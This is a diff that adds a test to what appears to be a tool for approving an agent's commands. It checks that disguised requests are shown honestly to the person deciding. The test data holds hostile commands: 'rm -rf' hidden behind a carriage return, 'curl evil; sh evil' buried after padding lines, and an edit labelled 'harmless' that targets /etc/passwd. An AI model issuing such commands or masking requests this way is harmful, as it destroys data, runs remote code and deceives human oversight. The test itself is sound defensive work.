@@ -290,3 +290,32 @@ def test_the_inbox_has_a_request_first_with_what_decides_it(uwf: Uwf, storage: P
     assert uwf(*item["commands"][1].split()[1:]).json["granted"] is False
     ended(process)
     assert inbox(Instance.open()) == []
+
+
+def test_what_a_place_cannot_show_whole_it_has_no_command_for_that_allows_it(uwf: Uwf, storage: Path) -> None:
+    long = "echo ok\n" * 60 + "curl evil; sh evil"
+    words = ["ls\rrm -rf x", long]
+    calls = [{"kind": "execute", "title": "run", "rawInput": {"command": command}} for command in words]
+    calls.append({"kind": "edit", "title": "harmless", "rawInput": {"path": "/etc/passwd"}})
+    steps = Scripted(storage, "ask:" + "|".join(f"call={json.dumps(call)}" for call in calls), more=WAIT)
+    process = started(steps)
+    allow = asked(uwf, steps)["commands"]["allow"]
+    for command in ("inbox", "thread show"):
+        words = command.split() + ([steps.thread] if command == "thread show" else [])
+        shown = uwf(*words, "--format", "text").out
+        assert "execute: ls\\x0drm -rf x" in shown and allow in shown
+    assert asked(uwf, steps)["line"] == "execute: ls\\x0drm -rf x"
+    uwf(*allow.split()[1:], "--deny")
+    wait_until(lambda: [item["command"] for item in requests(uwf, steps)] == [long], "the next")
+    request = requests(uwf, steps)[0]
+    for words in (["inbox"], ["thread", "show", steps.thread]):
+        shown = uwf(*words, "--format", "text").out
+        assert "evil" not in shown and "more characters]" in shown
+        assert f"uwf thread permit {steps.thread}\n" in shown and request["request"] not in shown
+    status, shown = on_terminal("thread", "permit", steps.thread, typed=[("never? ", "n")])
+    assert status == 0 and "sh evil" in shown
+    wait_until(lambda: [item["kind"] for item in requests(uwf, steps)] == ["edit"], "the last")
+    assert requests(uwf, steps)[0]["line"] == "edit: harmless: /etc/passwd"
+    assert "path: /etc/passwd" in uwf("inbox", "--format", "text").out
+    uwf("thread", "permit", steps.thread, requests(uwf, steps)[0]["request"], "--deny")
+    ended(process)
